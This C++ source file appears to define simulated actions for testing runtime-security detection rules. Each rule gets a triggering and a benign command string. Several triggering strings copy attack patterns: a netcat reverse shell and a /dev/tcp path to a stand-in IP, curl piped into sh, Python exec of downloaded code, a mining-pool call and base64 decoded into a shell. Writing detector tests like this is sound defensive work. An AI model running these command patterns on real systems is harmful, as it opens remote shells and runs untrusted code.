// Actions for 20-shells.yaml and 30-execution.yaml.

#include "simulate/action.h"

namespace gyr::simulate {
namespace {

using enum Where;

constexpr std::array kActions{
    RuleAction{"Interactive Shell in Container", {container, {"terminal sh -c true"}}, {container, {"sh -c true"}}},
    RuleAction{"Interactive Interpreter in Container",
               {container, {"spawn terminal call python3"}},
               {container, {"call python3"}}},
    RuleAction{"Shell Spawned by Web Server",
               {container, {"as nginx spawn sh -c true"}},
               {container, {"as nginx spawn true"}}},
    RuleAction{"Shell Spawned by Database Server",
               {container, {"as postgres spawn sh -c true"}},
               {container, {"as postgres spawn true"}}},
    RuleAction{"Shell Spawned by Java Server",
               {container, {"as java spawn sh -c 'true org.apache.catalina.startup.Bootstrap'"}},
               {container, {"as java spawn sh -c 'true hello.jar'"}}},
    RuleAction{"Shell Spawned by Network Daemon",
               {container, {"as named spawn sh -c true"}},
               {container, {"as named spawn true"}}},
    RuleAction{"Discovery Command under Server",
               {container, {"as nginx spawn orphan id"}},
               {container, {"as nginx spawn as make spawn id"}}},
    RuleAction{
        "Shell Connected to Network Socket", {container, {"on-tcp sh -c true"}}, {container, {"on-unix sh -c true"}}},
    RuleAction{"Interpreter Connected to Network Socket",
               {container, {"on-tcp call python3 -c pass"}},
               {container, {"on-tcp call python3 server.py"}}},
    RuleAction{
        "Interactive Shell without Terminal", {container, {"?on-pipe sh -i"}}, {container, {"?on-pipe sh -ic true"}}},
    RuleAction{"Reverse Shell Command Line",
               {container, {"sh -c 'true /dev/tcp/203.0.113.5/4444'"}},
               {container, {"sh -c 'true /dev/null'"}}},
    RuleAction{"Netcat Runs a Program",
               {container, {"call nc -nve/bin/sh 203.0.113.5 4444"}},
               {container, {"call nc -zvw3 203.0.113.5 80"}}},
    RuleAction{
        "Execution from Shared Memory Directory", {container, {"imitate /dev/shm/tool"}}, {container, {"ls /dev/shm"}}},
    RuleAction{"Execution from Temporary Directory in Container",
               {container, {"imitate /tmp/tool"}},
               {host, {"imitate /tmp/tool"}}},
    RuleAction{"Execution from Hidden Path in Temporary Directory",
               {host, {"imitate /var/tmp/.cache/tool"}},
               {host, {"imitate /var/tmp/cache/tool.x"}}},
    RuleAction{"Fileless Execution", {container, {"?memory tool"}}, {container, {"descriptor /usr/bin/env true"}}},
    RuleAction{
        "Program Run through Loader", {container, {"loader /bin/true"}}, {container, {"loader --list /bin/true"}}},
    RuleAction{"Execution of Deleted Program", {container, {"?unnamed tool"}}, {container, {"?memory tool"}}},
    RuleAction{"Dropped Program Executed in Container",
               {container, {"imitate /usr/bin/fresh"}},
               {container, {"copy /usr/bin/fresh", "as make spawn /usr/bin/fresh"}}},
    RuleAction{"Crypto Miner",
               {container, {"call worker -o stratum+tcp://pool.example:3333"}},
               {container, {"call worker --coin"}}},
    RuleAction{"Encoded Command Decoded into Shell",
               {container, {"sh -c 'echo dHJ1ZQ== | base64 -d | sh'"}},
               {container, {"sh -c 'echo dHJ1ZQ== | base64 -d'"}}},
    RuleAction{"Download Piped into Shell in Container",
               {container, {"sh -c 'true curl -s http://203.0.113.5/x | sh'"}},
               {container, {"sh -c 'true curl -s http://203.0.113.5/x'"}}},
    RuleAction{"Downloaded Code Run by Interpreter",
               {host, {"call python3 -c 'exec(urllib.request.urlopen(url).read())'"}},
               {host, {"call python3 -c 'print(urllib.request.urlopen(url).read())'"}}},
    RuleAction{"Piped Commands in Interactive Container Session",
               {container, {"terminal sh -c 'echo true | sh; true'"}},
               {container, {"sh -c 'echo true | sh; true'"}}},
    RuleAction{"Library Preloaded from Writable Directory",
               {container, {"env LD_PRELOAD=/tmp/none.so true"}},
               {container, {"env LD_PRELOAD=libnone.so true"}}},
};

} // namespace

std::span<const RuleAction> shell_actions() { return kActions; }

} // namespace gyr::simulate
